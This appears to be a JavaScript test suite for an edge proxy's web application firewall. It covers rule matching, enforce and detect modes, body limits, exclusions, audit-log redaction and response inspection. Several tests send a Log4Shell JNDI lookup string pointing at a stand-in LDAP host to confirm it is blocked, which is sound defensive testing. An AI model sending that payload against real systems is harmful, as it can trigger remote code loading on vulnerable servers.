// SPDX-License-Identifier: Apache-2.0
// The firewall engine in the edge: what is inspected, what becomes of it, and what is said about it. Rules are small
// files of the scene; the Core Rule Set has its suite (suites/crs).
import fs from 'node:fs'
import path from 'node:path'
import { scene, eq, ok, waitFor, zone, ms } from '../lib/scene.mjs'

const RULES = `
SecRule ARGS|REQUEST_COOKIES "@contains evil" "id:100001,phase:2,deny,status:403,t:none,t:lowercase,log,msg:'Evil in a value',tag:'test'"
SecRule REQUEST_URI "@contains /teapot" "id:100002,phase:1,deny,status:418,log,msg:'A pot'"
SecRule REQUEST_URI "@contains /gone" "id:100003,phase:1,redirect:https://elsewhere.test/,log,msg:'Elsewhere'"
SecRule REQUEST_URI "@contains /drop" "id:100004,phase:1,drop,log,msg:'Dropped'"
SecRule REQUEST_HEADERS:Host "@rx ^$" "id:100005,phase:1,deny,log,msg:'No host'"
SecRule ARGS:password "@contains hunter2" "id:100006,phase:2,pass,log,msg:'A known password',logdata:'%{MATCHED_VAR}'"
`
const echo = (q, reply) => {
  const body = q.body
  return reply.send(200, { 'Content-Type': 'text/plain' }, `${q.method} ${q.target} ${body.length} ${q.get('expect') ?? '-'}`)
}

/** An edge whose zone has the firewall in that mode, over rules of ours; app answers with what it got. */
async function edgeWith (s, waf, { rules = RULES, app, more = {}, config = {}, ...options } = {}) {
  app ??= await s.origin(echo)
  const file = path.join(s.folder(), 'rules.conf')
  fs.writeFileSync(file, rules)
  fs.chmodSync(path.dirname(file), 0o777)
  const edge = await s.edge({
    hosts: { 'www.test': app }, more: { waf, ...more }, ...options,
    config: { waf: { rules: file }, log: { audit: path.join(path.dirname(file), 'audit.log'), audit_id_header: 'X-Test-Id' }, ...config }
  })
  edge.app = app
  edge.audit = id => waitFor(() => {
    const text = fs.existsSync(path.join(path.dirname(file), 'audit.log')) ? fs.readFileSync(path.join(path.dirname(file), 'audit.log'), 'utf8') : ''
    return text.split('\n').slice(0, -1).map(l => JSON.parse(l)).find(l => l.id === id || l.ray === id)
  }, { what: `audit line ${id}` })
  return edge
}
const form = (edge, body, headers = {}) => edge.request('POST', '/form', { headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...headers }, body })

scene('an enforcing zone refuses what rules match, a detecting one says so, others are not asked', async s => {
  const edge = await edgeWith(s, { mode: 'enforce' })
  let r = await edge.get('/?a=EVIL', { headers: { 'X-Test-Id': 'one' } })
  eq([r.status, r.text.includes(r.get('cf-ray').slice(0, 16))], [403, true])
  let line = await edge.logged({ ray: r.get('cf-ray') })
  eq([line.error, line.waf, edge.app.count('/?a=EVIL')], ['ERR_BLOCKED', { action: 'block', score: 0, rules: [100001] }, 0])
  eq(await edge.audit('one').then(a => [a.ray, a.rules, a.log, a.action]),
    [r.get('cf-ray'), [100001], ['[id "100001"] [msg "Evil in a value"] [data ""]'], 'block'])
  eq((await edge.get('/?a=good')).status, 200)
  eq((await form(edge, 'x=1&y=evil')).status, 403)
  eq((await form(edge, 'x=1&y=good')).text, 'POST /form 10 -')
  eq((await edge.get('/teapot')).status, 418)
  r = await edge.get('/gone')
  eq([r.status, r.get('location')], [302, 'https://elsewhere.test/'])
  const c = await s.client(edge)
  await c.send('GET /drop HTTP/1.1\r\nHost: www.test\r\n\r\n')
  eq(await c.closed(), '')

  edge.plan(zone('test', { 'www.test': edge.app }, { waf: { mode: 'detect' } }))
  await waitFor(async () => (await edge.get('/?a=evil')).status === 200, { what: 'the zone to detect only' })
  r = await edge.get('/?a=evil&b=evil', { headers: { Cookie: 'k=evil' } })
  line = await edge.logged({ ray: r.get('cf-ray') })
  eq([r.status, line.waf], [200, { action: 'detect', score: 0, rules: [100001] }])
  edge.plan(zone('test', { 'www.test': edge.app }, { waf: { mode: 'off' } }))
  await waitFor(async () => (await edge.logged({ ray: (await edge.get('/?a=evil')).get('cf-ray') })).waf === undefined, { what: 'the zone to be off' })
})

scene('a zone in its standard state refuses known breaches by the head, and bodies stream on unseen', async s => {
  const edge = await edgeWith(s, undefined, { more: { waf_standard: true } })
  const jndi = '${jndi:ldap://x.test/a}'
  let r = await edge.get('/', { headers: { 'User-Agent': jndi } })
  eq([r.status, (await edge.logged({ ray: r.get('cf-ray') })).error], [403, 'ERR_BLOCKED'])
  eq((await edge.get('/?q=' + encodeURIComponent(jndi))).status, 403)
  eq((await edge.get('/?q=evil')).status, 200) // the rules of the node are not asked
  r = await edge.request('POST', '/json', { headers: { 'Content-Type': 'application/json' }, body: '{"broken' })
  eq([r.status, r.text], [200, 'POST /json 8 -'])
  eq((await form(edge, 'a=' + encodeURIComponent(jndi))).status, 200)
  edge.plan(zone('test', { 'www.test': edge.app }, { waf_standard: false }))
  await waitFor(async () => (await edge.get('/', { headers: { 'User-Agent': jndi } })).status === 200, { what: 'the zone to be off' })
})

scene('values that are secrets are not written', async s => {
  const edge = await edgeWith(s, { mode: 'detect' })
  await form(edge, 'password=hunter2', { 'X-Test-Id': 'secret' })
  const line = await edge.audit('secret')
  eq(line.log, ['[id "100006"] [msg "A known password"] [data "***"]'])
})

scene('what is longer than the limit is looked at in part, and streams on', async s => {
  const edge = await edgeWith(s, { mode: 'enforce' }, { config: { limits: { waf_body_bytes_max: '4K' } } })
  const long = 'a='.padEnd(100000, 'x')
  let r = await form(edge, long, { 'X-Test-Id': 'long' })
  eq([r.status, r.text], [200, 'POST /form 100000 -'])
  eq((await edge.audit('long')).body, { inspected: 4096, of: 100000 })
  r = await form(edge, long + '&b=evil')
  eq([r.status, r.text], [200, 'POST /form 100007 -'])
  eq((await form(edge, 'b=evil&' + long)).status, 403)
  // chunked: the length is not known
  const c = await s.client(edge)
  await c.send('POST /c HTTP/1.1\r\nHost: www.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n')
  for (let i = 0; i < 10; i++) await c.send('1000\r\n' + 'y'.repeat(4096) + '\r\n')
  await c.send('0\r\n\r\n')
  eq((await c.response()).text, 'POST /c 40960 -')
})

scene('rules that want bodies whole have larger ones refused', async s => {
  const edge = await edgeWith(s, { mode: 'enforce' }, { rules: `${RULES}\nSecRequestBodyLimit 2000\nSecRequestBodyLimitAction Reject\n` })
  eq((await form(edge, 'a='.padEnd(2000, 'x'))).status, 200)
  eq((await form(edge, 'a='.padEnd(2001, 'x'))).status, 413)
  const c = await s.client(edge)
  await c.send('POST /c HTTP/1.1\r\nHost: www.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n1000\r\n' + 'y'.repeat(4096) + '\r\n')
  eq((await c.response()).status, 413)
})

scene('the body waits for the verdict, and 100 Continue comes from the edge', async s => {
  const edge = await edgeWith(s, { mode: 'enforce' })
  const c = await s.client(edge)
  await c.send('POST /w HTTP/1.1\r\nHost: www.test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 6\r\nExpect: 100-continue\r\n\r\n')
  const r = c.response()
  await waitFor(() => c.interim?.length || c.interims?.length || true, { what: '100' })
  await c.send('a=')
  eq(edge.app.count('/w'), 0)
  await c.send('good')
  eq((await r).text, 'POST /w 6 -')
})

scene('binary bodies are not collected', async s => {
  const app = await s.origin(async (q, reply) => { const body = await q.read(); await reply.send(200, {}, `${body.length}`) }, { lazy: true })
  const edge = await edgeWith(s, { mode: 'enforce' }, { app })
  const c = await s.client(edge)
  await c.send('POST /bin HTTP/1.1\r\nHost: www.test\r\nContent-Type: application/octet-stream\r\nContent-Length: 10\r\n\r\nevil')
  await waitFor(() => edge.app.count('/bin') === 1, { what: 'the origin to be asked while the body is on its way' })
  await c.send('=evil5')
  eq((await c.response()).status, 200)
})

scene('exclusions leave out one rule for one parameter of one path', async s => {
  const edge = await edgeWith(s, { mode: 'enforce', exclusions: [{ rule: 100001, path: '/editor', parameter: 'ARGS:text' }, { rule: 100002, path: '/teapot/shop*' }] })
  eq((await edge.get('/editor?text=evil')).status, 200)
  eq((await edge.get('/editor?title=evil')).status, 403)
  eq((await edge.get('/other?text=evil')).status, 403)
  eq((await edge.get('/teapot/shop/1')).status, 200)
  eq((await edge.get('/teapot/1')).status, 418)
})

scene('rules that are wrong are refused with file and line, and rules are kept by the edge', async s => {
  const dir = s.folder()
  fs.chmodSync(dir, 0o755)
  fs.writeFileSync(path.join(dir, 'a.conf'), 'SecAction "id:1,phase:1,pass,nolog"\n\nSecRule ARGS "@rx (" "id:2,deny"\n')
  const app = await s.origin(echo)
  const edge = await s.edge({ hosts: { 'www.test': app }, config: { waf: { rules: dir } }, start: false, trouble: true })
  await edge.start({ ready: false })
  eq((await edge.done(ms(20000))).status, 78)
  ok(edge.output.includes(`${dir}/a.conf:3`), edge.output)
})

scene('the Core Rule Set without its setup is refused at the start, with what to name', async s => {
  const dir = s.folder()
  fs.chmodSync(dir, 0o755)
  fs.writeFileSync(path.join(dir, 'a.conf'), 'SecRule &TX:crs_setup_version "@eq 0" "id:901001,phase:1,deny,status:500"\n')
  const edge = await s.edge({ hosts: { 'www.test': await s.origin(echo) }, config: { waf: { rules: dir } }, start: false, trouble: true })
  await edge.start({ ready: false })
  eq((await edge.done(ms(20000))).status, 78)
  ok(/crs-setup\.conf, which has to come first/.test(edge.output), edge.output)
})

scene('known breaches are refused without any rules of the admin', async s => {
  const app = await s.origin(echo)
  const edge = await s.edge({ hosts: { 'www.test': app }, more: { waf: { mode: 'enforce' } } })
  eq((await edge.get('/?x=$%7Bjndi:ldap://x.test/a%7D')).status, 403)
  eq((await edge.get('/?x=jndi')).status, 200)
  edge.plan(zone('test', { 'www.test': app }, { waf: { mode: 'enforce', rulesets: ['owasp'] } }))
  await waitFor(async () => (await edge.get('/?x=$%7Bjndi:ldap://x.test/a%7D')).status === 200, { what: 'the set to be left out' })
})

scene('answers are looked at before anybody gets them, where a zone wants that', async s => {
  const rules = `${RULES}
SecRule RESPONSE_STATUS "@streq 418" "id:100010,phase:3,deny,status:502,log,msg:'A pot answers'"
SecRule RESPONSE_BODY "@contains ORA-00933" "id:100011,phase:4,deny,status:403,log,msg:'A database error'"
SecResponseBodyLimit 20000
`
  const big = 'x'.repeat(50000)
  const app = await s.origin({
    '/pot': { status: 418, body: 'short' },
    '/leak': { headers: { 'Content-Type': 'text/html' }, body: 'oops ORA-00933: bad' },
    '/late': { headers: { 'Content-Type': 'text/html' }, body: big + 'ORA-00933' },
    '/fine': async (q, reply) => reply.send(200, { 'Content-Type': 'text/html' }, `fine ${q.get('accept-encoding') ?? 'plain'}`),
    '/a.css': { headers: { 'Content-Type': 'text/plain', 'Cache-Control': 'max-age=60' }, body: 'kept' },
    '/big.css': { headers: { 'Content-Type': 'text/plain', 'Cache-Control': 'max-age=60' }, body: big },
    '/chunks': async (q, reply) => { await reply.head(200, { 'Content-Type': 'text/plain' }); await reply.chunk('one '); await reply.chunk('two'); await reply.end() },
    '/image': { headers: { 'Content-Type': 'image/png' }, body: 'ORA-00933' },
    '/empty': { status: 204, headers: {}, body: '' }
  })
  const edge = await edgeWith(s, { mode: 'enforce', answers: true }, { app, rules })
  eq((await edge.get('/pot')).status, 502)
  let r = await edge.get('/leak')
  eq([r.status, r.text.includes('ORA'), (await edge.logged({ ray: r.get('cf-ray') })).waf.rules], [403, false, [100011]])
  eq((await edge.get('/fine', { headers: { 'Accept-Encoding': 'gzip' } })).text, 'fine plain')
  r = await edge.get('/late') // past the limit of what is looked at
  eq([r.status, r.text.length], [200, 50009])
  for (const [path, size] of [['/a.css', 4], ['/big.css', 50000]]) {
    for (const status of ['MISS', 'HIT']) {
      r = await edge.get(path)
      eq([path, r.get('cf-cache-status'), r.text.length], [path, status, size])
    }
    eq(app.count(path), 1)
  }
  eq((await edge.get('/chunks')).text, 'one two')
  eq((await edge.get('/image')).text, 'ORA-00933')
  eq((await edge.get('/empty')).status, 204)
  eq((await edge.request('HEAD', '/fine')).status, 200)
  edge.plan(zone('test', { 'www.test': app }, { waf: { mode: 'enforce' } }))
  await waitFor(async () => (await edge.get('/leak')).status === 200, { what: 'answers to be left alone' })
})
